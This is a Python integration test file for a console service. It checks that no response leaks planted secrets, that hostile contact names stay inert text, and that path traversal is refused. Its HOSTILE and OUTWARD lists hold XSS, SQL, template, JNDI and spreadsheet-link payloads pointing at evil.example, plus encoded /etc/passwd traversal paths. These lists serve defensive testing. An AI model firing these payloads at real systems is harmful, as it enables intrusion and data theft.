"""No secret in any answer of the console, and nothing that a contact's name or a note's text can do there."""

from __future__ import annotations

from pathlib import Path
from typing import Any

from connectors.sandbox.shared.faults import parse_fault
from streams.console.api.routes import ENDPOINTS
from streams.settings.secrets import secret_values
from tests.integration.console import caller, console_on_stage, until_indexed
from tests.integration.stage import ENVIRON
from tests.integration.test_oauth import APPS, GHL_CLIENTS, LOFTY_CLIENTS, SECRETS, connect_ghl
from tests.kafka.broker import Broker
from tests.unit.streams.console.stage import KEY, PASSWORDS, TOKENS

HOSTILE = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'; DROP TABLE people; --",
    '" OR name : *',
    "{{ 7 * 7 }}{% raw %}",
    '=HYPERLINK("http://evil.example")',
    "../../etc/passwd",
    "\u202egnp.exe",
    "\x1b[2J\x1b]0;owned\x07",
    "%0d%0aSet-Cookie: a=b",
    "${jndi:ldap://evil.example}",
]


async def test_no_answer_holds_a_secret(embedded_kafka: Broker, tmp_path: Path) -> None:
    """Every endpoint that looks, every page, and what refused requests say, after a run that went right and wrong."""
    more = APPS.replace("{server}", "help_centre")
    async with console_on_stage(
        embedded_kafka,
        tmp_path,
        more=more,
        ghl_auth="oauth",
        environ=SECRETS,
        ghl={"clients": GHL_CLIENTS},
        lofty={"clients": LOFTY_CLIENTS},
    ) as on:
        from streams.oauth.grants import Grants

        grants = Grants.of(on.settings)
        assert grants is not None
        await connect_ghl(on, grants)
        lead = on.new_lead()
        await on.until(lambda: lead in on.contacts())
        on.ghl.faults.add(parse_fault({"kind": "status", "operation": "create-contact", "status": 422, "times": 1}))
        await on.until(lambda: on.worker.writing.core.is_idle)
        on.new_lead()
        who = caller(on)
        await until_indexed(on, who)

        async def is_parked() -> bool:
            return bool((await who.get("/parked"))["total"])

        await on.until(is_parked)
        (row,) = (await who.get("/parked/records"))["rows"]
        left: list[str] = []
        values = {"connection": "acme", "lead": lead, "id": row["id"], "vendor": "ghl", "name": "default", "run": "x"}
        for endpoint in ENDPOINTS:
            path = endpoint.path
            for name, value in values.items():
                path = path.replace(f"{{{name}}}", value)
            query = (
                {"q": lead} if endpoint.id == "search-contacts" else {"who": lead} if endpoint.id == "explain" else None
            )
            for token in (TOKENS["robot"], ""):
                body: Any = {} if endpoint.body is not None else None
                left.append(str(await caller(on, token=token).ask(endpoint.method, path, body, query)))
        assert any("oauth" in text and "connected by OAuth" in text for text in left)
        headers = {"Cookie": "lofty_ghl_session=session.x.y"}
        for path in (
            "/console/",
            "/console/sign-in",
            "/console/assets/../../settings",
            "/metrics",
            "/api/v1/openapi.json",
        ):
            async with on.http.get(f"{on.gateway.url}{path}", headers=headers) as answer:
                left.append(await answer.text())
        flights = on.worker.dispatchers.tokens._flights  # type: ignore[union-attr]  # it has OAuth
        planted = {
            **{name: value for name, value in ENVIRON.items() if name != "LOFTY_GHL_ACME_GHL_TOKEN"},
            **SECRETS,
            **TOKENS,
            **PASSWORDS,
            "the key": KEY,
            **{f"setting {n}": value for n, value in enumerate(sorted(secret_values(on.settings)))},
            **{f"{name} access": flight._pair.access for name, flight in flights.items()},
        }
        assert len(planted) > 12
        found = {name: [text[:100] for text in left if value in text] for name, value in planted.items()}
        assert {name: hits for name, hits in found.items() if hits} == {}


async def test_hostile_names_and_texts_are_only_text(embedded_kafka: Broker, tmp_path: Path) -> None:
    """Found by themselves, shown as they are, in JSON that no browser takes for a page."""
    async with console_on_stage(embedded_kafka, tmp_path) as on:
        who, leads = caller(on), {}
        for number, text in enumerate(HOSTILE):
            leads[text] = on.new_lead(firstName=text, lastName=f"Hostile{number}")
            on.edit("create", "note", leadId=leads[text], fields={"content": text})
        await on.until_quiet(60)
        await until_indexed(on, who)
        for number, text in enumerate(HOSTILE):
            found = (await who.get("/contacts", q=f"hostile{number} "))["found"]
            assert leads[text] in [one["lead"] for one in found]
            assert all(one["name"].strip() for one in found)
            told = await who.get(f"/contacts/acme/{leads[text]}")
            values = [field["value"] for event in told["events"] for field in event["sent"]]
            assert any(text.strip() in str(value) for value in values) or "\x1b" in text
            async with on.http.get(
                f"{on.gateway.url}/api/v1/contacts",
                params={"q": text},
                headers={"Authorization": f"Bearer {TOKENS['robot']}"},
            ) as answer:
                assert answer.content_type in ("application/json", "application/problem+json")
                assert answer.headers["X-Content-Type-Options"] == "nosniff"
                assert answer.status in (200, 422)


OUTWARD = [
    "/console/assets/../guard.py",
    "/console/assets/..%2f..%2fguard.py",
    "/console/assets/%2e%2e/%2e%2e/settings/model.py",
    "/console/assets//etc/passwd",
    "/console/assets/..\\..\\guard.py",
    "/api/v1/parked/records/..%2f..%2f",
    "/api/v1/contacts/acme/..%2f..%2fetc",
    "/api/v1/contacts/..%2f/1",
]


async def test_no_path_leads_out(embedded_kafka: Broker, tmp_path: Path) -> None:
    """To a file beside the assets, or to another address."""
    import yarl

    told: dict[str, tuple[int, str]] = {}
    async with console_on_stage(embedded_kafka, tmp_path) as on:
        await until_indexed(on, caller(on))
        for path in OUTWARD:
            url = yarl.URL(f"{on.gateway.url}{path}", encoded=True)
            async with on.http.get(
                url, headers={"Authorization": f"Bearer {TOKENS['robot']}"}, allow_redirects=False
            ) as answer:
                told[path] = (answer.status, await answer.text())
    assert {path: status for path, (status, _) in told.items() if status not in (303, 400, 401, 403, 404)} == {}
    assert [path for path, (_, text) in told.items() if "class Guard" in text or "root:" in text] == []
